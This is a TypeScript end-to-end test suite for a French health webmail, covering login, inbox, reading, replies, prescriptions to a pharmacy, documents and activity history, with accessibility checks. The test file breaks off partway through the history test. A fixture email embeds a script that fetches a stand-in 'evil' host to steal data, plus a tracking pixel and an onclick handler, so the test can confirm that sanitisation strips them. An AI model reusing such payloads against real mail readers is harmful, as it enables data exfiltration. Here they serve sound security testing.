/// <reference lib="dom" />
/**
 * The citizen webmail's nine journeys (issue 10), driven as a person does in a real browser
 * (Debian's Chromium through playwright-core) against the real server, at a phone's width
 * (360 px) and a computer's (1280 px): log in, the inbox by conversation with new mail arriving
 * live, reading a message (read receipt, sanitised HTML, attachments, download), filing an
 * attachment into the record, replying (or being told why not), writing to a professional who
 * wrote, sending a prescription to a pharmacy, the documents, the history, the settings and
 * logging out everywhere. Every screen reached is checked with axe-core (WCAG 2.1 A/AA and best
 * practices: zero violations), must not scroll sideways at 360 px, and is photographed under
 * test-results/webmail/ (`360-05-message.png`…) for a person to look at. What the screens claim
 * is checked on the server too: the doctor's and the pharmacy's mailboxes over IMAP, the
 * database. Nothing is mocked; the page may ask nothing of any host but the server.
 */
import { readFileSync } from 'node:fs';
import { ImapFlow } from 'imapflow';
import { simpleParser } from 'mailparser';
import type { Browser, BrowserContext, Download, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildPdf, buildXdm, DOC_ROOT, SET_ROOT } from '../../fixtures/builders.js';
import { axeViolations, describeViolations, launchChromium, newContext, overflowsHorizontally, screenshot } from '../helpers/browser.js';
import { mssgw } from '../helpers/cli.js';
import { waitFor } from '../helpers/wait.js';
import { WebClient } from '../helpers/web-client.js';
import { COLLEAGUE, DOCTOR, HOSPITAL, INS, PASSWORD, PHARMACY, citizen, startWorld, trySend, type World } from '../helpers/world.js';

const JEANNE = citizen(INS.jeanne);
const PAUL = citizen(INS.paul);
const SITE = 'Messagerie santé';
const WIDTHS = [360, 1280] as const;
type Width = (typeof WIDTHS)[number];

let world: World;
let browser: Browser;
let base: string;
/** whether the directory knows towns yet (`mssgw directory add … --town`) */
let townKnown = false;
const contexts: BrowserContext[] = [];
const screenshots: string[] = [];

const escape = (text: string) => text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');

// ---------------------------------------------------------------------------------------------
// What the doctor sends

/** The documents and mails of one width's run: each width has its own, so both start alike. */
function mailFor(width: Width) {
  const pdf = buildPdf({ lines: [`Compte rendu de consultation ${width}`, 'Examen clinique normal.'] });
  return {
    subjects: {
      first: `Suivi de votre bilan (${width})`,
      main: `Résultats et ordonnance (${width})`,
      closed: `Fin de suivi (${width})`,
      live: `Nouveau message en direct (${width})`,
    },
    messageIds: { first: `<suivi-${width}@${HOSPITAL}>`, main: `<resultats-${width}@${HOSPITAL}>` },
    pdf,
    pdfName: `compte-rendu-${width}.pdf`,
    prescriptionTitle: `Ordonnance ${width}`,
    prescriptionId: `PRESC-E2E-${width}`,
  };
}
type WidthMail = ReturnType<typeof mailFor>;

async function doctorSends(mail: Parameters<typeof trySend>[1]): Promise<void> {
  const result = await trySend(world.session(), { from: { name: 'Dr House', address: DOCTOR }, to: JEANNE, ...mail });
  expect(result.ok, result.response).toBe(true);
}

/** The conversation the doctor starts for one width: a first message, the main one in reply, and a closed one. */
async function doctorWrites(m: WidthMail): Promise<void> {
  await doctorSends({ subject: m.subjects.first, messageId: m.messageIds.first, text: 'Bonjour, je vous écris au sujet de votre bilan. Dr House' });
  const xdm = await buildXdm({
    documents: [{ cda: { typeCode: '57833-6', title: m.prescriptionTitle, id: { root: DOC_ROOT, extension: m.prescriptionId } } }],
  });
  await doctorSends({
    subject: m.subjects.main,
    messageId: m.messageIds.main,
    inReplyTo: m.messageIds.first,
    references: [m.messageIds.first],
    headers: { 'Disposition-Notification-To': DOCTOR },
    text: 'Bonjour, voici vos résultats et votre ordonnance. Plus d’informations : https://www.ameli.fr/assure',
    html:
      '<p>Bonjour,</p><p>Voici vos <b>résultats</b> et votre ordonnance.</p>' +
      '<script>document.title = "piraté"; fetch("https://evil.example.com/steal")</script>' +
      '<img src="https://pixel.example.com/open.gif?id=42" width="1" height="1" alt="">' +
      '<p onclick="alert(1)">Plus d’informations : <a href="https://www.ameli.fr/assure">votre compte ameli</a></p>',
    attachments: [
      { filename: m.pdfName, content: m.pdf, contentType: 'application/pdf' },
      { filename: 'IHE_XDM.ZIP', content: xdm, contentType: 'application/zip' },
    ],
  });
  await doctorSends({ subject: m.subjects.closed, headers: { 'X-MSS-MES': 'FIN' }, text: 'Votre suivi est terminé. Prenez soin de vous.' });
}

// ---------------------------------------------------------------------------------------------
// The server's side: mailboxes over IMAP, the database

interface Received {
  subject: string;
  type: string;
  from: string;
  source: Buffer;
}

/** What a professional's INBOX holds, read as their mail client would. */
async function inboxOf(user: string): Promise<Received[]> {
  const client = world.imap(user);
  await client.connect();
  try {
    const lock = await client.getMailboxLock('INBOX');
    try {
      const box = client.mailbox;
      if (!box || box.exists === 0) return [];
      const out: Received[] = [];
      for await (const m of client.fetch('1:*', { envelope: true, bodyStructure: true, source: true })) {
        out.push({ subject: m.envelope?.subject ?? '', type: m.bodyStructure?.type ?? '', from: m.envelope?.from?.[0]?.address ?? '', source: m.source ?? Buffer.alloc(0) });
      }
      return out;
    } finally {
      lock.release();
    }
  } finally {
    await client.logout().catch(() => client.close());
  }
}

function query<T>(sql: string, ...params: unknown[]): T[] {
  return world.query<T>(sql, ...params);
}

// ---------------------------------------------------------------------------------------------
// The browser: one page per context, watched for console errors and requests elsewhere

interface Watched {
  page: Page;
  /** console errors and page errors not expected */
  errors: string[];
  /** requests to any host but the server */
  foreign: string[];
  /** from now on, a 401 from the API is the expected end of a session (logged out elsewhere) */
  sessionEnded: boolean;
  /** failed answers the test provokes on purpose: "409 /api/messages/5/attachments/1/file" */
  provoked: RegExp[];
}

async function openPage(width: Width): Promise<Watched> {
  const context = await newContext(browser, width);
  contexts.push(context);
  const page = await context.newPage();
  page.setDefaultTimeout(15_000);
  const watched: Watched = { page, errors: [], foreign: [], sessionEnded: false, provoked: [] };
  page.on('console', (msg) => {
    if (msg.type() !== 'error') return;
    const url = msg.location().url ?? '';
    const status401 = /status of 401/.test(msg.text());
    // The login screen asks whether a session exists (GET /api/session) and a wrong password is a 401 too.
    if (status401 && /\/api\/session$/.test(url)) return;
    if (status401 && watched.sessionEnded && url.includes('/api/')) return;
    const status = /status of (\d{3})/.exec(msg.text())?.[1];
    if (status && watched.provoked.some((p) => p.test(`${status} ${new URL(url).pathname}`))) return;
    watched.errors.push(`console: ${msg.text()} (${url})`);
  });
  page.on('pageerror', (err) => watched.errors.push(`page error: ${err.message}`));
  page.on('request', (request) => {
    const url = new URL(request.url());
    if (['data:', 'blob:'].includes(url.protocol)) return;
    if (url.hostname !== '127.0.0.1') watched.foreign.push(request.url());
  });
  return watched;
}

/**
 * The screen shown is the one expected, whole: its title, one h1, nothing loading; then axe-core
 * finds nothing, it does not scroll sideways on a phone, and its picture is taken.
 */
async function checkScreen(page: Page, width: Width, shot: string, screenTitle: string, options: { loggedIn?: boolean } = {}): Promise<void> {
  const title = `${screenTitle} – ${SITE}`;
  await page.waitForFunction((t) => document.title === t && !document.getElementById('contenu')!.hasAttribute('aria-busy'), title);
  expect(await page.title()).toBe(title);
  expect(await page.locator('h1').count(), `${shot}: one h1`).toBe(1);
  if (options.loggedIn ?? true) {
    expect(await page.getByRole('navigation', { name: 'Menu principal' }).count(), `${shot}: the main menu`).toBe(1);
  }
  const violations = await axeViolations(page);
  expect(violations, `${width}-${shot}: axe-core\n${describeViolations(violations)}`).toEqual([]);
  if (width === 360) expect(await overflowsHorizontally(page), `${width}-${shot} scrolls sideways`).toBe(false);
  screenshots.push(await screenshot(page, `${width}-${shot}`));
}

/** The main menu, as a person uses it: on a phone, behind the "Menu" button. */
async function menu(page: Page, width: Width, link: string): Promise<void> {
  if (width === 360) {
    const button = page.getByRole('button', { name: 'Menu' });
    expect(await button.getAttribute('aria-expanded')).toBe('false');
    await button.click();
    expect(await button.getAttribute('aria-expanded')).toBe('true');
  } else {
    expect(await page.getByRole('button', { name: 'Menu' }).isVisible()).toBe(false);
  }
  await page.getByRole('navigation', { name: 'Menu principal' }).getByRole('link', { name: link, exact: true }).click();
}

/** What a key press should land on: an element by its id, its name attribute, or a link by its text. */
interface Target {
  id?: string;
  name?: string;
  link?: string;
}

/** Presses Tab (or Shift+Tab) until the focused element is the one wanted. */
async function tabTo(page: Page, target: Target, key: 'Tab' | 'Shift+Tab' = 'Tab'): Promise<void> {
  for (let i = 0; i < 40; i++) {
    await page.keyboard.press(key);
    const reached = await page.evaluate((t) => {
      const el = document.activeElement;
      if (!el) return false;
      if (t.id !== undefined) return el.id === t.id;
      if (t.name !== undefined) return el.getAttribute('name') === t.name;
      return el.tagName === 'A' && el.textContent === t.link;
    }, target);
    if (reached) return;
  }
  throw new Error(`${key} never reached ${JSON.stringify(target)}`);
}

/** The focused element shows it: :focus-visible, with an outline or a shadow a person can see. */
async function focusIsVisible(page: Page): Promise<{ visible: boolean; how: string }> {
  return page.evaluate(() => {
    const el = document.activeElement as HTMLElement;
    const style = getComputedStyle(el);
    const outline = style.outlineStyle !== 'none' && parseFloat(style.outlineWidth) >= 2;
    const shadow = style.boxShadow !== 'none' && style.boxShadow !== '';
    return { visible: el.matches(':focus-visible') && (outline || shadow), how: `${el.tagName} outline ${style.outlineStyle} ${style.outlineWidth} ${style.outlineColor}, shadow ${style.boxShadow}` };
  });
}

async function announced(page: Page, text: string): Promise<void> {
  await page.getByTestId('annonce').filter({ hasText: text }).waitFor();
}

async function downloaded(page: Page, click: () => Promise<void>): Promise<{ download: Download; bytes: Buffer }> {
  const [download] = await Promise.all([page.waitForEvent('download'), click()]);
  const file = await download.path();
  return { download, bytes: readFileSync(file) };
}

/** What a person sees of a size ("612 octets", "3 Ko"), as the webmail writes it. */
function sizeText(bytes: number): string {
  if (bytes < 1024) return `${bytes} octet${bytes > 1 ? 's' : ''}`;
  if (bytes < 1024 * 1024) return `${Math.max(1, Math.round(bytes / 1024))} Ko`;
  return `${(bytes / (1024 * 1024)).toFixed(1).replace('.', ',')} Mo`;
}

async function login(page: Page, landsOn = 'Boîte de réception'): Promise<void> {
  await page.getByLabel('Adresse de messagerie').fill(JEANNE);
  await page.getByLabel('Mot de passe').fill(PASSWORD);
  await page.getByRole('button', { name: 'Se connecter' }).click();
  await page.waitForFunction((t) => document.title === t, `${landsOn} – ${SITE}`);
}

// ---------------------------------------------------------------------------------------------

const REPLACED_TITLE = 'Compte rendu de consultation de suivi';
const INVISIBLE_TITLE = 'Résultat réservé à la consultation';
const INVISIBLE_SUBJECT = 'Résultat à annoncer';

beforeAll(async () => {
  // The browser makes many calls from one address: the per-client limit is not what is tested here.
  world = await startWorld({ web: { rateLimitPerMinute: 100_000 } });
  base = `http://127.0.0.1:${world.server.ports.http}`;
  browser = await launchChromium();

  // The pharmacy gets its town in the directory, as the operator gives it.
  const town = await mssgw(world.box, ['directory', 'add', PHARMACY, '--type', 'ORG', '--pharmacy', '--name', 'Pharmacie du Centre', '--town', 'Lyon']);
  townKnown = town.code === 0;
  if (!townKnown) console.warn(`the directory knows no town yet (${town.stderr.trim()}): the pharmacy is searched by name`);

  // A colleague who wrote to Paul, never to Jeanne: someone her "new message" must not offer.
  const toPaul = await trySend(world.session(COLLEAGUE), { from: COLLEAGUE, to: PAUL, subject: 'Rendez-vous', text: 'Bonjour Paul.' });
  expect(toPaul.ok, toPaul.response).toBe(true);

  // A report in two versions: the first shows as replaced.
  for (const version of [1, 2]) {
    const cda = { typeCode: '11488-4', title: REPLACED_TITLE, id: { root: DOC_ROOT, extension: `SUIVI-E2E-V${version}` }, setId: { root: SET_ROOT, extension: 'SUIVI-E2E' }, version, effectiveTime: `2024030${version}100000+0100` };
    await doctorSends({ subject: `Compte rendu, version ${version}`, text: 'Compte rendu ci-joint.', attachments: [{ filename: 'IHE_XDM.ZIP', content: await buildXdm({ documents: [{ cda }] }) }] });
  }
  // A document the XDM metadata hides from the patient: refused at the door of her mailbox.
  const invisible = await buildXdm({
    documents: [{ cda: { typeCode: '11502-2', title: INVISIBLE_TITLE, id: { root: DOC_ROOT, extension: 'INVISIBLE-E2E' } }, confidentiality: ['INVISIBLE_PATIENT'] }],
  });
  const refused = await trySend(world.session(), { from: DOCTOR, to: JEANNE, subject: INVISIBLE_SUBJECT, text: 'Document ci-joint.', attachments: [{ filename: 'IHE_XDM.ZIP', content: invisible }] });
  expect(refused.ok, refused.response).toBe(false);
  expect(refused.response).toMatch(/INVISIBLE_PATIENT/);

  // A history longer than one page: Jeanne downloaded the report many times from another device.
  const api = await WebClient.login(world.server.ports.http, JEANNE, PASSWORD);
  const docs = (await api.get<{ documents: Array<{ id: number; title: string; status: string }> }>('/api/record/documents')).body.documents;
  const current = docs.find((d) => d.title === REPLACED_TITLE && d.status === 'current');
  expect(current, JSON.stringify(docs)).toBeDefined();
  for (let i = 0; i < 55; i++) expect((await api.get(`/api/record/documents/${current!.id}/content`)).status).toBe(200);
  expect((await api.delete('/api/session')).status).toBe(204);
}, 120_000);

afterAll(async () => {
  for (const context of contexts) await context.close().catch(() => {});
  await browser?.close();
  await world?.stop();
  if (screenshots.length) console.log(`screenshots (${screenshots.length}):\n${screenshots.join('\n')}`);
});

describe.each(WIDTHS)('the webmail at %i px', (width) => {
  const m = mailFor(width);
  let me: Watched;
  let page: Page;
  let mainId = 0;

  beforeAll(async () => {
    await doctorWrites(m);
    me = await openPage(width);
    page = me.page;
  });

  it('1. logs in with the keyboard (a wrong password said as an alert), then shows the inbox by conversation, newest first, unread marked; new mail appears without reloading', async () => {
    await page.goto(`${base}/`);
    await checkScreen(page, width, '01-login', 'Connexion', { loggedIn: false });
    expect(await page.getByRole('heading', { level: 1 }).textContent()).toBe('Connexion à ma messagerie santé');

    // Keyboard only: Tab to the address field (past the skip link and the site's name), type, Tab, type, Enter.
    await tabTo(page, { name: 'address' });
    const focus = await focusIsVisible(page);
    expect(focus.visible, `a visible focus indicator on the address field: ${focus.how}`).toBe(true);
    await page.keyboard.type(JEANNE);
    await page.keyboard.press('Tab');
    expect(await page.evaluate(() => document.activeElement?.getAttribute('name'))).toBe('password');
    await page.keyboard.type('pas le bon mot de passe');
    await page.keyboard.press('Enter');
    const alert = page.getByRole('alert').filter({ hasText: /\S/ });
    await alert.waitFor();
    await checkScreen(page, width, '02-login-error', 'Connexion', { loggedIn: false });

    await page.getByLabel('Mot de passe').focus();
    await page.keyboard.type(PASSWORD);
    await page.keyboard.press('Enter');
    await checkScreen(page, width, '03-inbox', 'Boîte de réception');
    expect(page.url()).toMatch(/#\/inbox$/);

    // The doctor's conversation: one group, its two messages newest first, both unread.
    const group = page.locator('li.conversation.groupe').filter({ hasText: `Conversation : ${m.subjects.first}` });
    await expect(group.count()).resolves.toBe(1);
    expect(await group.locator('.conversation-titre').textContent()).toBe(`Conversation : ${m.subjects.first} · 2 messages, dont 2 non lus`);
    const inGroup = await group.locator('.message-ligne a').allInnerTexts();
    expect(inGroup.map((t) => (t.includes(m.subjects.main) ? 'main' : t.includes(m.subjects.first) ? 'first' : t))).toEqual(['main', 'first']);
    const mainLink = page.getByRole('link', { name: new RegExp(`^Non lu, Dr House ${escape(m.subjects.main)} .* Pièce jointe$`) });
    await expect(mainLink.count()).resolves.toBe(1);
    await expect(page.getByRole('link', { name: new RegExp(`^Non lu, Dr House ${escape(m.subjects.closed)}`) }).count()).resolves.toBe(1);
    // The message the rules refused never reached her.
    expect(await page.getByText(INVISIBLE_SUBJECT).count()).toBe(0);
    // Newest first: each conversation sits where its newest message is, and so does each row inside it.
    const dates = await page.locator('ul.conversations > li').evaluateAll((lis) =>
      lis.map((li) => Array.from(li.querySelectorAll('.message-ligne time')).map((t) => Date.parse(t.getAttribute('datetime')!))),
    );
    for (const rows of dates) expect(rows, 'rows of a conversation newest first').toEqual([...rows].sort((a, b) => b - a));
    const newest = dates.map((rows) => rows[0]!);
    expect(newest, 'conversations newest first').toEqual([...newest].sort((a, b) => b - a));
    expect(await page.locator('.message-ligne.non-lu').count()).toBeGreaterThanOrEqual(3);

    // New mail while the inbox is open: it appears without reloading (the same document, marked), and is announced.
    await page.evaluate(() => ((window as unknown as { sameDocument: boolean }).sameDocument = true));
    await doctorSends({ subject: m.subjects.live, text: 'Un nouveau message pendant que vous lisez.' });
    await page.getByRole('link', { name: new RegExp(`^Non lu, Dr House ${escape(m.subjects.live)}`) }).waitFor();
    expect(await page.evaluate(() => (window as unknown as { sameDocument?: boolean }).sameDocument)).toBe(true);
    await announced(page, 'Nouveau message');
    expect(await page.locator('.message-ligne a').first().innerText()).toContain(m.subjects.live);
    await checkScreen(page, width, '04-inbox-new-mail', 'Boîte de réception');
  });

  it('2. opens a message: the read receipt goes once, the HTML has no script or remote content and shows link targets, attachments have name, type and size, one downloads', async () => {
    await page.getByRole('link', { name: new RegExp(`^Non lu, Dr House ${escape(m.subjects.main)}`) }).click();
    await checkScreen(page, width, '05-message', m.subjects.main);
    mainId = Number(/#\/message\/(\d+)$/.exec(page.url())?.[1]);
    expect(mainId).toBeGreaterThan(0);
    await page.getByText('Un accusé de lecture a été envoyé à l’expéditeur.').waitFor();

    // The HTML, sanitised: no script ran or stayed, no remote image, the link shows where it goes.
    const html = page.locator('.message-html');
    await expect(html.innerText()).resolves.toContain('Voici vos résultats et votre ordonnance.');
    expect(await html.locator('script, img, style, iframe, [onclick]').count()).toBe(0);
    const link = html.getByRole('link', { name: 'votre compte ameli' });
    expect(await html.innerText()).toContain('Plus d’informations : votre compte ameli (https://www.ameli.fr/assure)');
    expect(await link.getAttribute('href')).toBe('https://www.ameli.fr/assure');
    expect(await link.getAttribute('target')).toBe('_blank');
    expect((await link.getAttribute('rel'))?.split(/\s+/).sort()).toEqual(['noopener', 'noreferrer']);

    // The attachments: name, a type a person reads, size.
    const pdf = page.getByTestId('piece-jointe-0');
    await expect(pdf.locator('.piece-nom').textContent()).resolves.toBe(m.pdfName);
    await expect(pdf.innerText()).resolves.toContain(`Document PDF · ${sizeText(m.pdf.length)}`);
    const xdm = page.getByTestId('piece-jointe-1');
    await expect(xdm.locator('.piece-nom').textContent()).resolves.toBe('IHE_XDM.ZIP');
    await expect(xdm.innerText()).resolves.toContain('Document de santé (CDA)');
    await expect(xdm.innerText()).resolves.toMatch(/· \d+(,\d)? (octets|Ko|Mo)/);

    // Download the PDF: the same bytes, under its name.
    const { download, bytes } = await downloaded(page, () => pdf.getByRole('link', { name: `Télécharger ${m.pdfName}` }).click());
    expect(download.suggestedFilename()).toBe(m.pdfName);
    expect(bytes.equals(m.pdf)).toBe(true);

    // Back to the list: it is read now; opened a second time, no second receipt goes.
    await page.getByRole('link', { name: 'Retour aux messages' }).click();
    await checkScreen(page, width, '05b-inbox-after-reading', 'Boîte de réception');
    const readLink = page.getByRole('link', { name: new RegExp(`^Dr House ${escape(m.subjects.main)}`) });
    await readLink.waitFor();
    await readLink.click();
    await page.waitForFunction((t) => document.title === t, `${m.subjects.main} – ${SITE}`);

    // The doctor's INBOX: exactly one read receipt for this message, a multipart/report.
    const receipts = await waitFor('the read receipt in the doctor’s INBOX', async () => {
      const found = (await inboxOf(DOCTOR)).filter((r) => r.source.toString('latin1').includes(`Original-Message-ID: ${m.messageIds.main}`));
      return found.length > 0 && found;
    });
    expect(receipts).toHaveLength(1);
    expect(receipts[0]!.type).toBe('multipart/report');
    expect(receipts[0]!.from).toBe(JEANNE);
    expect(receipts[0]!.source.toString('latin1')).toMatch(/report-type="?disposition-notification/i);
  });

  it('3. files the PDF attachment into "Mes documents" under a chosen category', async () => {
    const pdf = page.getByTestId('piece-jointe-0');
    // Without a category: said next to the field.
    await pdf.getByRole('button', { name: 'Enregistrer dans mes documents' }).click();
    await pdf.getByRole('alert').filter({ hasText: 'Choisissez une catégorie.' }).waitFor();
    await pdf.getByLabel(/^Catégorie/).selectOption({ label: 'Comptes rendus' });
    await pdf.getByRole('button', { name: 'Enregistrer dans mes documents' }).click();
    await pdf.getByRole('status').filter({ hasText: 'Document enregistré dans vos documents, catégorie « Comptes rendus ».' }).waitFor();
    // The prescription of the XDM zip was filed when it arrived: the page says so instead of offering it again.
    const xdm = page.getByTestId('piece-jointe-1');
    await xdm.getByTestId('deja-classe').filter({ hasText: 'Déjà dans vos documents.' }).waitFor();
    expect(await xdm.getByRole('button', { name: 'Enregistrer dans mes documents' }).count()).toBe(0);
    await checkScreen(page, width, '06-message-filed', m.subjects.main);

    const filed = query<{ category: string; title: string }>('SELECT category, title FROM record_documents WHERE citizen = ? AND title = ?', JEANNE, m.pdfName);
    expect(filed).toEqual([{ category: 'COMPTES_RENDUS', title: m.pdfName }]);
  });

  it('4. replies to the doctor; in the conversation the doctor closed, the reply button says why', async () => {
    await page.getByRole('button', { name: 'Répondre' }).click();
    await checkScreen(page, width, '07-reply', 'Répondre');
    expect(await page.getByRole('heading', { level: 1 }).textContent()).toBe('Répondre');
    expect(await page.getByLabel('Destinataire').inputValue()).toBe(DOCTOR);
    expect(await page.getByLabel('Objet').inputValue()).toBe(`Re: ${m.subjects.main}`);
    await page.getByLabel('Message').fill(`Merci docteur, bien reçu (${width}).`);
    await page.getByRole('button', { name: 'Envoyer' }).click();
    await announced(page, 'Votre message a été envoyé.');
    await checkScreen(page, width, '08-sent', 'Messages envoyés');
    await page.getByRole('link', { name: new RegExp(`Re: ${escape(m.subjects.main)}`) }).waitFor();

    const reply = await waitFor('the reply in the doctor’s INBOX', async () => (await inboxOf(DOCTOR)).find((r) => r.subject === `Re: ${m.subjects.main}`));
    expect(reply.from).toBe(JEANNE);
    const parsed = await simpleParser(reply.source);
    expect(parsed.inReplyTo).toBe(m.messageIds.main);
    expect(parsed.text).toContain(`Merci docteur, bien reçu (${width}).`);

    // The conversation the doctor closed (X-MSS-MES: FIN): no reply, and why.
    await menu(page, width, 'Boîte de réception');
    await checkScreen(page, width, '08b-inbox', 'Boîte de réception');
    await page.getByRole('link', { name: new RegExp(`^Non lu, Dr House ${escape(m.subjects.closed)}`) }).click();
    await page.waitForFunction((t) => document.title === t, `${m.subjects.closed} – ${SITE}`);
    const button = page.getByRole('button', { name: 'Répondre' });
    expect(await button.getAttribute('aria-disabled')).toBe('true');
    const why = page.getByTestId('reponse-impossible');
    expect(await why.innerText()).toMatch(/clos cette conversation/);
    expect(await button.getAttribute('aria-describedby')).toBe(await why.getAttribute('id'));
    // Pressed all the same (it keeps its place in the tab order, to be found and read): nothing happens.
    await button.focus();
    await page.keyboard.press('Enter');
    expect(page.url()).toMatch(/#\/message\/\d+$/);
    await checkScreen(page, width, '09-message-closed', m.subjects.closed);
  });

  it('5. writes a new message (reached with the keyboard): the recipients offered are only the professionals who wrote to her', async () => {
    // Keyboard: from where the focus is (the reply button just pressed), back up to the menu ("Menu" first on a phone), Enter.
    if (width === 360) {
      await tabTo(page, { id: 'menu-bouton' }, 'Shift+Tab');
      expect((await focusIsVisible(page)).visible).toBe(true);
      await page.keyboard.press('Enter');
      expect(await page.getByRole('button', { name: 'Menu' }).getAttribute('aria-expanded')).toBe('true');
    }
    await tabTo(page, { link: 'Nouveau message' }, width === 360 ? 'Tab' : 'Shift+Tab');
    const focus = await focusIsVisible(page);
    expect(focus.visible, `a visible focus indicator on the menu link: ${focus.how}`).toBe(true);
    await page.keyboard.press('Enter');
    await checkScreen(page, width, '10-new-message', 'Nouveau message');
    expect(await page.getByRole('heading', { level: 1 }).textContent()).toBe('Nouveau message');
    // The focus moved to the new screen's heading, for a screen reader to start there.
    expect(await page.evaluate(() => document.activeElement?.tagName)).toBe('H1');

    const recipient = page.getByLabel('Destinataire');
    expect(await recipient.evaluate((el) => el.tagName)).toBe('SELECT');
    const offered = await recipient.locator('option').evaluateAll((options) => options.map((o) => (o as HTMLOptionElement).value).filter(Boolean));
    // Dr House wrote to her; Dr Wilson wrote only to Paul, the pharmacy never wrote.
    expect(offered).toEqual([DOCTOR]);
    expect(offered).not.toContain(COLLEAGUE);
    await recipient.selectOption(DOCTOR);
    await page.getByLabel('Objet').fill(`Question sur mon traitement (${width})`);
    await page.getByLabel('Message').fill('Bonjour docteur, puis-je prendre ce traitement le soir ?');
    await page.getByRole('button', { name: 'Envoyer' }).click();
    await announced(page, 'Votre message a été envoyé.');
    await page.waitForFunction((t) => document.title === t, `Messages envoyés – ${SITE}`);

    const received = await waitFor('the new message in the doctor’s INBOX', async () => (await inboxOf(DOCTOR)).find((r) => r.subject === `Question sur mon traitement (${width})`));
    expect(received.from).toBe(JEANNE);
  });

  it('6. sends a prescription from her documents to a pharmacy found by town, with a note; the pharmacy receives the document', async () => {
    await menu(page, width, 'Envoyer une ordonnance');
    await page.waitForFunction((t) => document.title === t, `Envoyer une ordonnance – ${SITE}`);
    const documents = page.getByRole('group', { name: 'Ordonnance à envoyer' });
    await documents.getByRole('radio', { name: new RegExp(`^${escape(m.prescriptionTitle)}\\b`) }).check();

    const search = townKnown ? 'Lyon' : 'Centre';
    await page.getByLabel('Rechercher une pharmacie').fill(search);
    await page.getByRole('button', { name: 'Rechercher' }).click();
    const pharmacies = page.getByRole('group', { name: 'Pharmacie', exact: true });
    const name = townKnown ? new RegExp(`^Pharmacie du Centre, Lyon ${escape(PHARMACY)}$`) : new RegExp(`^Pharmacie du Centre\\b.*${escape(PHARMACY)}$`);
    const choice = pharmacies.getByRole('radio', { name });
    await choice.waitFor();
    await choice.check();
    await page.getByLabel('Note pour la pharmacie (facultatif)').fill(`Je passerai la chercher demain matin (${width}).`);
    await checkScreen(page, width, '11-prescription', 'Envoyer une ordonnance');
    await page.getByRole('button', { name: 'Envoyer' }).click();
    await announced(page, 'Votre ordonnance a été envoyée à la pharmacie.');
    await checkScreen(page, width, '12-prescription-sent', 'Messages envoyés');
    await page.getByRole('link', { name: new RegExp(`^À : ${escape(PHARMACY)} Ordonnance `) }).first().waitFor();

    // The pharmacy's INBOX: the message, the note, the prescription CDA about Jeanne attached.
    const sent = await waitFor('the prescription in the pharmacy’s INBOX', async () => {
      for (const r of await inboxOf(PHARMACY)) {
        const parsed = await simpleParser(r.source);
        if (parsed.text?.includes(`(${width})`)) return { r, parsed };
      }
      return undefined;
    });
    expect(sent.r.from).toBe(JEANNE);
    expect(sent.parsed.text).toContain(`Je passerai la chercher demain matin (${width}).`);
    const cda = sent.parsed.attachments.find((a) => a.filename === `${m.prescriptionTitle}.xml`);
    expect(cda, sent.parsed.attachments.map((a) => a.filename).join(', ')).toBeDefined();
    const xml = cda!.content.toString('utf8');
    expect(xml).toContain(`extension="${m.prescriptionId}"`);
    expect(xml).toContain('code="57833-6"');
    expect(xml).toContain(`extension="${INS.jeanne}"`);
    expect(sent.parsed.attachments.some((a) => a.contentType === 'application/pdf')).toBe(true);
  });

  it('7. shows her documents by category with title, author and date; a replaced version says so; nothing hidden from her appears', async () => {
    await menu(page, width, 'Mes documents');
    await checkScreen(page, width, '13-documents', 'Mes documents');
    const doc = (title: string) => page.locator('[data-testid^="document-"]').filter({ has: page.getByRole('heading', { level: 3, name: title, exact: true }) });
    const section = (label: string) => page.locator('section.categorie').filter({ has: page.getByRole('heading', { level: 2, name: label, exact: true }) });

    // The prescription, filed on delivery: in Ordonnances et soins, with its author and date.
    const prescription = section('Ordonnances et soins').locator('[data-testid^="document-"]').filter({ hasText: m.prescriptionTitle });
    await expect(prescription.count()).resolves.toBe(1);
    const text = await prescription.innerText();
    expect(text).toMatch(/Auteur\s*:?\s*Paul DURAND/);
    expect(text).toMatch(/Date\s*:?\s*15 janvier 2024/);
    expect(text).not.toContain('Remplacé');
    await prescription.getByRole('link', { name: `Envoyer à une pharmacie : ${m.prescriptionTitle}` }).waitFor();
    const { bytes } = await downloaded(page, () => prescription.getByRole('link', { name: `Télécharger le PDF : ${m.prescriptionTitle}` }).click());
    expect(bytes.subarray(0, 5).toString('latin1')).toBe('%PDF-');

    // The PDF she filed: in Comptes rendus, by her.
    const mine = section('Comptes rendus').locator('[data-testid^="document-"]').filter({ has: page.getByRole('heading', { name: m.pdfName, exact: true }) });
    await expect(mine.count()).resolves.toBe(1);
    expect(await mine.innerText()).toMatch(/Auteur\s*:?\s*Vous/);

    // Versions: the first says it was replaced, the second does not.
    const versions = doc(REPLACED_TITLE);
    await expect(versions.count()).resolves.toBe(2);
    const labels = await versions.evaluateAll((lis) => lis.map((li) => li.textContent!.includes('Remplacé par une version plus récente')));
    expect(labels.sort()).toEqual([false, true]);
    // Refused at delivery: it exists nowhere for her.
    expect(await page.getByText(INVISIBLE_TITLE).count()).toBe(0);

    // One category at a time.
    await page.getByLabel('Catégorie').selectOption('ORDONNANCES_SOINS');
    await page.waitForFunction(() => document.querySelectorAll('section.categorie').length === 1);
    expect(await page.getByRole('heading', { level: 2 }).allInnerTexts()).toEqual(['Ordonnances et soins']);
    await checkScreen(page, width, '14-documents-prescriptions', 'Mes documents');

    // "Envoyer à une pharmacie" opens the prescription screen with that document chosen.
    await prescription.getByRole('link', { name: `Envoyer à une pharmacie : ${m.prescriptionTitle}` }).click();
    await page.waitForFunction((t) => document.title === t, `Envoyer une ordonnance – ${SITE}`);
    expect(await page.getByRole('radio', { name: new RegExp(`^${escape(m.prescriptionTitle)}\\b`) }).isChecked()).toBe(true);
  });

  it('8. shows her activity history, newest first, with "Voir plus"', async () => {
    await menu(page, width, 'Mon historique');
    await checkScreen(page, width, '15-activity', 'Mon historique');
    const entries = page.locator('ol.historique > li');
    const first = await entries.allInnerTexts();
    expect(first.length).toBe(50);
    const all = first.join('\n');
    expect(all).toContain(`Vous avez téléchargé la pièce jointe « ${m.pdfName} »`);
    expect(all).toContain(`Vous avez classé le document « ${m.pdfName} » dans Comptes rendus`);
    expect(all).toContain(`Accusé de lecture envoyé à Dr House (${DOCTOR})`);
    expect(all).toContain(`Vous avez lu un message de Dr House (${DOCTOR})`);
    expect(all).not.toContain(INVISIBLE_TITLE);

    await page.getByRole('button', { name: 'Voir plus' }).click();
    await page.waitForFunction(() => document.querySelectorAll('ol.historique > li').length > 50);
